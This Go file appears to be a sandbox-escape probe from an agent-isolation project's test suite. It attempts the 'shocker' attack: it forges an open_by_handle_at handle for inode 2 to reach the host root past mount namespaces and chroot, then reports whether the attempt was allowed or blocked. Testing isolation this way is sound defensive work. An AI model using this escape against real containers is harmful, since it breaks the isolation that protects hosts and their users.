//go:build linux

// Probe open_by_handle_at is the "shocker" attack: open_by_handle_at(2)
// with a handle for inode 2 (the root directory of ext4/xfs host
// filesystems) relative to a bind-mounted host directory, which bypasses
// the mount namespace and chroot.
package main

import (
	"encoding/binary"
	"fmt"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/agentkernel/agentkernel/test/attack/probes/internal/probe"
)

const name = "open_by_handle_at"

func main() {
	var errs []string
	for _, p := range []string{"/workspace", "/etc/hostname", "/etc/resolv.conf", "/", "/tmp"} {
		h, mnt, err := unix.NameToHandleAt(unix.AT_FDCWD, p, 0)
		if err != nil {
			errs = append(errs, "name_to_handle_at("+p+"): "+err.Error())
			continue
		}
		dirfd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		// The genuine handle first, then the shocker handle: ino 2, gen 0.
		fd, err := unix.OpenByHandleAt(dirfd, h, unix.O_RDONLY)
		if err == nil {
			unix.Close(fd)
			unix.Close(dirfd)
			report("allowed", fmt.Sprintf("open_by_handle_at(%s, mount %d) succeeded", p, mnt))
		}
		errs = append(errs, "open_by_handle_at("+p+"): "+err.Error())
		raw := make([]byte, 8)
		binary.LittleEndian.PutUint32(raw, 2)
		fd, err = unix.OpenByHandleAt(dirfd, unix.NewFileHandle(1 /* FILEID_INO32_GEN */, raw), unix.O_RDONLY|unix.O_DIRECTORY)
		unix.Close(dirfd)
		if err == nil {
			unix.Close(fd)
			report("allowed", "shocker handle (ino 2) opened via "+p)
		}
	}
	report("blocked", strings.Join(errs, "; "))
}

func report(result, detail string) { probe.Report(name, result, detail) }
